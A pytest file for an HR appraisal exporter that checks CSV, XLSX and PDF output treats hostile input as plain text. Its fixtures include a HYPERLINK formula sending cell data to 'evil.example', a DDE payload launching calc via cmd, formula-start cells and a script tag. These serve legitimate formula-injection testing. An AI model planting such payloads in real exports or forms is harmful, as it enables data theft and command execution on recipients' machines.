"""The appraisal's files for HR (server/appraisal/exports.py), from report dicts made by hand.

Each file is read back as HR's tools read it: the CSV with the csv module, the XLSX with
openpyxl (and its sheet XML, for formulas), the PDF with `pdftotext -layout`. Hostile text
(formula starts, HTML, control characters) must come out as the same text and nothing else.
"""

import csv
import io
import re
import subprocess
import zipfile
from datetime import datetime

import pytest
from openpyxl import load_workbook

from server.appraisal.exports import FORMATS, headers, to_csv, to_pdf, to_xlsx

MONTH = "2026-11"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
HEADERS = [
    "工号", "姓名", "英文名", "得分", "等级", "系数", "样本不足", "单一审核员", "红线",
    "未关闭整改", "逾期整改", "完整交车率", "设施日检执行率", "区域明细", "说明",
]  # fmt: skip


def rate(id_, label, label_en, measure, count, of, value):
    return {"id": id_, "label": label, "label_en": label_en, "measure": measure,
            "count": count, "of": of, "value": value}  # fmt: skip


def part(zone, share, days, used, *, score=None, carried=None, insufficient=False):
    return {"zone_id": f"z-{zone}", "zone": zone, "zone_en": None, "share": share, "days": days,
            "weight": share * days / 100, "score": used if score is None else score,
            "used": used, "carried_from": carried, "insufficient": insufficient,
            "audit_count": 3, "audit_ids": [], "officers": [1], "checklists": []}  # fmt: skip


def row(staff_id, employee_no, name, name_en, score, grade, grade_en, coefficient, **more):
    base = {
        "staff_id": staff_id, "employee_no": employee_no, "name": name, "name_en": name_en,
        "site_id": "hq", "score": score, "grade": grade, "grade_en": grade_en,
        "coefficient": coefficient, "insufficient": False, "single_officer": False,
        "red_lines": [], "actions_open": 0, "actions_overdue": 0,
        "rates": [rate("handover", "完整交车率", "Complete handovers", "go", 0, 0, None),
                  rate("facility-daily", "设施日检执行率", "Daily facility checks done",
                       "done", 0, 0, None)],
        "parts": [], "audit_count": 0, "audit_ids": [], "note": {"zh": "", "en": ""},
    }  # fmt: skip
    return {**base, **more}


def make_report(closed: bool = True) -> dict:
    zhang = row(
        "s1", "E001", "张三", "Zhang San", 92.5, "优", "Excellent", 1.2,
        single_officer=True,
        red_lines=[{"audit_id": "a1", "zone_id": "z-A区", "day": "2026-11-03",
                    "items": ["fire-exit", "ppe"]}],
        actions_open=2, actions_overdue=1,
        rates=[rate("handover", "完整交车率", "Complete handovers", "go", 7, 8, 87.5),
               rate("facility-daily", "设施日检执行率", "Daily facility checks done",
                    "done", 28, 30.0, 93.3)],
        parts=[part("A区", 100, 30, 92.5),
               part("B区", 50, 15, None, score=70.0, insufficient=True)],
        audit_ids=["a1", "a2"],
        note={"zh": "B区本月1次审核（至少2次），样本不足，不计入得分",
              "en": "B区: 1 audits (at least 2), left out of the score"},
    )  # fmt: skip
    hostile = row(
        "s2", "=1+2", "+1", "-2", 81.0, "良", "Good", 1.0,
        insufficient=True,
        parts=[part("<b>x</b>", 66.7, 20, 88.0, score=60.0, carried="2026-10",
                    insufficient=True)],
        audit_ids=["a3"],
        note={"zh": "@SUM(A1)", "en": "@SUM(A1)"},
    )  # fmt: skip
    nobody = row(
        "s3", "E003", "<b>x</b>", "\tTab", None, None, None, 1.0,
        note={"zh": "本月无可计分审核，系数按1.0", "en": "no score this month: coefficient 1.0"},
    )  # fmt: skip
    control = row(
        "s4",
        "E004",
        "李\x07四",
        "Li Si",
        60.04,
        "中",
        "Fair",
        0.8,
        note={"zh": "<script>alert(1)</script>", "en": ""},
    )
    report = {
        "month": MONTH,
        "rules": {"version": 3, "sha256": "ab" * 32},
        "rule": {"zh": "区域月得分 = 各检查表当月已批准审核平均分的加权平均；个人得分 = Σ(…)",
                 "en": "Zone-month score = the weighted mean of each checklist's mean"},
        "closed": None,
        "rows": [zhang, hostile, nobody, control],
        "amendments": [
            {"month": "2026-09", "staff_id": "s1", "employee_no": "E001", "name": "张三",
             "site_id": "hq", "closed": {"score": 88.0, "grade": "良", "coefficient": 1.0},
             "now": {"score": 90.5, "grade": "优", "coefficient": 1.2},
             "audits_added": ["a9"], "audits_removed": []},
        ],
        "officers": [],
    }  # fmt: skip
    if closed:
        report["closed"] = {"at": "2026-12-01T02:00:00.000Z", "by": "admin",
                            "sha256": {"json": "cd" * 32, "csv": "0" * 64}}  # fmt: skip
    return report


AUDITS = [
    {"audit_id": "a1", "staff_id": "s1", "zone_id": "z-A区", "zone": "A区", "day": "2026-11-03",
     "checklist_id": "6s-zone", "checklist_version": 2, "officer": "王五", "percent": 91.25},
    {"audit_id": "a2", "staff_id": "s1", "zone_id": "z-A区", "zone": "A区", "day": "2026-11-17",
     "checklist_id": "6s-zone", "checklist_version": 2, "officer": "=cmd|' /C calc'!A0",
     "percent": 93.7},
    {"audit_id": "a3", "staff_id": "s2", "zone_id": "z-x", "zone": "<b>x</b>",
     "day": "2026-11-05", "checklist_id": "body-paint", "checklist_version": 1,
     "officer": "王五", "percent": None},
]  # fmt: skip
DEDUCTIONS = [
    {"audit_id": "a1", "staff_id": "s1", "zone": "A区", "day": "2026-11-03",
     "item_id": "fire-exit", "item_label": "消防通道畅通", "value": 1, "max": 5,
     "anchor": "通道堵塞", "note": "-堆放纸箱", "photos": 2, "red_line": True},
    # As render_files gives them: photos as their sha256, no zone name (from the audit line).
    {"audit_id": "a3", "staff_id": "s2", "zone_id": "z-x", "day": "2026-11-05",
     "item_id": "mask", "item_label": "@防护口罩", "value": "fail", "max": None,
     "anchor": None, "note": "", "photos": ["e" * 64], "red_line": False},
]  # fmt: skip


@pytest.fixture(scope="module")
def report():
    return make_report()


# --------------------------------------------------------------------------- CSV


def test_csv_has_a_bom_the_headers_in_order_and_the_figures(report):
    raw = to_csv(report)
    assert raw.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert table[0] == HEADERS == headers(report)
    assert len(table) == 1 + len(report["rows"])
    assert table[1] == [
        "E001", "张三", "Zhang San", "92.5", "优", "1.20", "否", "是", "2", "2", "1",
        "87.5", "93.3", "A区 92.5×100%×30天；B区 —×50%×15天（不计）",
        "B区本月1次审核（至少2次），样本不足，不计入得分",
    ]  # fmt: skip
    nobody = table[3]
    assert nobody[:6] == ["E003", "<b>x</b>", "'\tTab", "", "", "1.00"]
    assert nobody[11:13] == ["", ""] and nobody[13] == ""
    assert table[4][1] == "李四" and table[4][3] == "60.0"  # control character dropped


def test_csv_quotes_every_formula_start(report):
    table = list(csv.reader(io.StringIO(to_csv(report).decode("utf-8-sig"))))
    hostile = table[2]
    assert hostile[:3] == ["'=1+2", "'+1", "'-2"]
    assert hostile[6] == "是"
    assert hostile[13] == "<b>x</b> 88.0×66.7%×20天（沿用2026-10）"
    assert hostile[14] == "'@SUM(A1)"
    # Numbers are never quoted; nothing but those cells starts with a quote.
    quoted = [cell for line in table for cell in line if cell.startswith("'")]
    assert quoted == ["'=1+2", "'+1", "'-2", "'@SUM(A1)", "'\tTab"]


def test_an_empty_month_still_has_its_header():
    empty = {**make_report(), "rows": [], "amendments": []}
    table = list(csv.reader(io.StringIO(to_csv(empty).decode("utf-8-sig"))))
    assert table == [HEADERS[:11] + HEADERS[13:]]
    book = load_workbook(io.BytesIO(to_xlsx(empty, [], [])))
    assert [c.value for c in book["考核汇总"][1]] == HEADERS[:11] + HEADERS[13:]
    for name in ("审核明细", "扣分明细", "更正 Amendments"):
        assert book[name].max_row == 1 and book[name]["A1"].value in ("工号", "关账月份")


# --------------------------------------------------------------------------- XLSX


@pytest.fixture(scope="module")
def xlsx(report):
    return to_xlsx(report, AUDITS, DEDUCTIONS)


def test_xlsx_summary_sheet(xlsx, report):
    book = load_workbook(io.BytesIO(xlsx))
    assert book.sheetnames == ["考核汇总", "审核明细", "扣分明细", "更正 Amendments"]
    sheet = book["考核汇总"]
    assert sheet.freeze_panes == "C2"
    assert [c.value for c in sheet[1]] == HEADERS
    widths = {k: d.width for k, d in sheet.column_dimensions.items()}
    assert widths["A"] == 12 and widths["D"] == 8 and widths["L"] == 14
    assert widths["N"] == 44 and widths["O"] == 60
    first = sheet[2]
    assert [c.value for c in first[:11]] == [
        "E001", "张三", "Zhang San", 92.5, "优", 1.2, "否", "是", 2, 2, 1,
    ]  # fmt: skip
    assert first[3].number_format == "0.0" and first[5].number_format == "0.00"
    assert first[11].value == 87.5 and first[11].number_format == "0.0"
    assert first[12].value == 93.3 and first[12].number_format == "0.0"
    assert first[13].value == "A区 92.5×100%×30天；B区 —×50%×15天（不计）"
    assert first[13].alignment.wrap_text
    nobody = sheet[4]
    assert nobody[3].value is None and nobody[4].value is None and nobody[5].value == 1.0
    assert nobody[11].value is None
    assert sheet["B5"].value == "李四"  # the control character dropped


def test_xlsx_rule_and_close_under_the_table(xlsx):
    sheet = load_workbook(io.BytesIO(xlsx))["考核汇总"]
    under = {c.value: c for c in sheet["A"][6:] if c.value}
    rule = next(c for v, c in under.items() if v.startswith("考核规则："))
    assert "区域月得分" in rule.value
    assert any(v.startswith("Rule: Zone-month score") for v in under)
    assert any(v.startswith("列 Columns: 工号 Employee no.") for v in under)
    closed = next(v for v in under if v.startswith("已关账"))
    assert "admin" in closed and "cd" * 32 in closed and "2026-12-01 02:00 UTC" in closed
    assert any("更正 Amendments" in v and v.startswith("更正") for v in under)
    assert f"A{rule.row}:O{rule.row}" in {str(r) for r in sheet.merged_cells.ranges}
    assert sheet.row_dimensions[rule.row].height > 15


def test_xlsx_formula_starts_are_plain_strings(xlsx):
    book = load_workbook(io.BytesIO(xlsx))
    sheet = book["考核汇总"]
    hostile = sheet[3]
    for cell, text in [(hostile[0], "=1+2"), (hostile[1], "+1"), (hostile[2], "-2"),
                       (hostile[14], "@SUM(A1)"), (sheet["C4"], "\tTab")]:  # fmt: skip
        assert cell.value == text and cell.data_type == "s", cell.coordinate
    assert hostile[0].quotePrefix
    assert sheet["B4"].value == "<b>x</b>"
    officer = book["审核明细"]["G3"]
    assert officer.value == "=cmd|' /C calc'!A0" and officer.data_type == "s"
    assert officer.quotePrefix and not book["审核明细"]["G2"].quotePrefix
    # No sheet holds a formula at all.
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_xlsx_audits_and_deductions_sheets(xlsx):
    book = load_workbook(io.BytesIO(xlsx))
    audits = book["审核明细"]
    assert audits.freeze_panes == "A2"
    rows = list(audits.iter_rows(values_only=True))
    assert rows[0] == (
        "工号",
        "姓名",
        "区域",
        "日期",
        "检查表",
        "版本",
        "审核员",
        "得分",
        "审核编号",
    )
    assert rows[1] == ("E001", "张三", "A区", "2026-11-03", "6s-zone", 2, "王五", 91.25, "a1")
    assert rows[3] == ("=1+2", "+1", "<b>x</b>", "2026-11-05", "body-paint", 1, "王五", None, "a3")
    assert audits["H2"].number_format == "0.0"
    assert audits.column_dimensions["I"].width == 38

    deductions = book["扣分明细"]
    rows = list(deductions.iter_rows(values_only=True))
    assert rows[0] == ("工号", "姓名", "审核编号", "区域", "日期", "检查项编号", "检查项", "给分",
                       "满分", "评分标准", "备注", "照片", "红线")  # fmt: skip
    assert rows[1] == ("E001", "张三", "a1", "A区", "2026-11-03", "fire-exit", "消防通道畅通", 1,
                       5, "通道堵塞", "-堆放纸箱", 2, "是")  # fmt: skip
    # The zone from the audit's line; photos counted from their hashes.
    assert rows[2] == ("=1+2", "+1", "a3", "<b>x</b>", "2026-11-05", "mask", "@防护口罩", "fail",
                       None, None, None, 1, "否")  # fmt: skip
    assert deductions["K2"].data_type == "s" and deductions["G3"].data_type == "s"

    amendments = list(book["更正 Amendments"].iter_rows(values_only=True))
    assert amendments[1] == ("2026-09", "E001", "张三", 88.0, "良", 1.0, 90.5, "优", 1.2, "a9",
                             None)  # fmt: skip


TRICKY = [
    ("  leading and trailing  ", "  leading and trailing  "),
    ("a\nb", "a\nb"),
    ("x\r\ny", "x\r\ny"),
    ("&<>\"' ]]> &amp;", "&<>\"' ]]> &amp;"),
    ("油污 😀 ‮reversed", "油污 😀 ‮reversed"),
    ("\x01=2+3\x1f", "=2+3"),
    ("\t=tab", "\t=tab"),
    ("\x00\x08", None),
    ("长" * 40000, "长" * 32767),
]


def test_xlsx_detail_rows_hold_any_text_as_text():
    """The detail sheets' rows are written as XML by exports.py itself: every kind of text
    reads back as openpyxl would have stored it, numbers as numbers, in both load modes."""
    lines = [
        {**DEDUCTIONS[0], "note": text, "value": value, "audit_id": f"t{n}"}
        for n, ((text, _), value) in enumerate(
            zip(TRICKY, [0.1 + 0.2, 10**15, -1, 2.5, True, "pass", None, 0, 1], strict=True)
        )
    ]
    data = to_xlsx(make_report(), AUDITS, lines)
    for read_only in (False, True):
        book = load_workbook(io.BytesIO(data), read_only=read_only)
        rows = list(book["扣分明细"].iter_rows(min_row=2))
        assert [r[10].value for r in rows] == [want for _, want in TRICKY]
        assert [r[7].value for r in rows] == [0.1 + 0.2, 10**15, -1, 2.5, "是", "pass", None, 0, 1]
        assert [r[2].value for r in rows] == [f"t{n}" for n in range(len(TRICKY))]
        for r in rows:
            assert r[10].value is None or r[10].data_type == "s"
    sheet = load_workbook(io.BytesIO(data))["扣分明细"]
    assert sheet["K7"].quotePrefix and sheet["K8"].quotePrefix and not sheet["K2"].quotePrefix


def test_xlsx_is_the_same_bytes_for_the_same_report(xlsx, report):
    assert to_xlsx(report, AUDITS, DEDUCTIONS) == xlsx
    book = load_workbook(io.BytesIO(xlsx))
    assert book.properties.created == book.properties.modified == datetime(2026, 11, 1)
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        assert {info.date_time for info in archive.infolist()} == {(2026, 11, 1, 0, 0, 0)}


def test_formats_name_the_media_types():
    assert FORMATS["csv"][0].startswith("text/csv") and FORMATS["pdf"][0] == "application/pdf"
    assert FORMATS["xlsx"][1] is to_xlsx and FORMATS["json"][1]({"a": "é"}) == '{"a": "é"}'.encode()


# --------------------------------------------------------------------------- PDF


@pytest.fixture(scope="module")
def pdf(report, tmp_path_factory):
    path = tmp_path_factory.mktemp("pdf") / "appraisal.pdf"
    path.write_bytes(to_pdf(report))
    return path


def pdf_text(path) -> str:
    done = subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True,
                          text=True, check=True, timeout=30)  # fmt: skip
    return done.stdout


def test_pdf_prints_the_table_the_rule_and_the_signatures(pdf):
    text = pdf_text(pdf)
    assert "2026-11 月度考核 Monthly appraisal" in text
    for word in ("工号", "单一审核员", "完整交车", "区域明细", "说明", "张三", "Zhang San", "李四",
                 "92.5", "1.20", "87.5", "考核规则", "制表", "审核", "批准", "日期"):  # fmt: skip
        assert word in text, word
    assert "已关账" in text and "admin" in text
    assert "更正 Amendments" in text and "2026-09" in text


def test_pdf_prints_hostile_text_as_text(pdf):
    text = pdf_text(pdf)
    assert "<b>x</b>" in text and "<script>alert(1)</script>" in text
    for word in ("=1+2", "+1", "-2", "@SUM(A1)"):
        assert word in text, word


def test_pdf_is_one_a4_landscape_page(pdf):
    info = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True, check=True)
    assert re.search(r"^Pages:\s+1$", info.stdout, re.M), info.stdout
    assert re.search(r"^Page size:\s+841.89 x 595.276 pts \(A4\)$", info.stdout, re.M)


def test_pdf_is_the_same_bytes_for_the_same_report(pdf, report):
    assert to_pdf(report) == pdf.read_bytes()
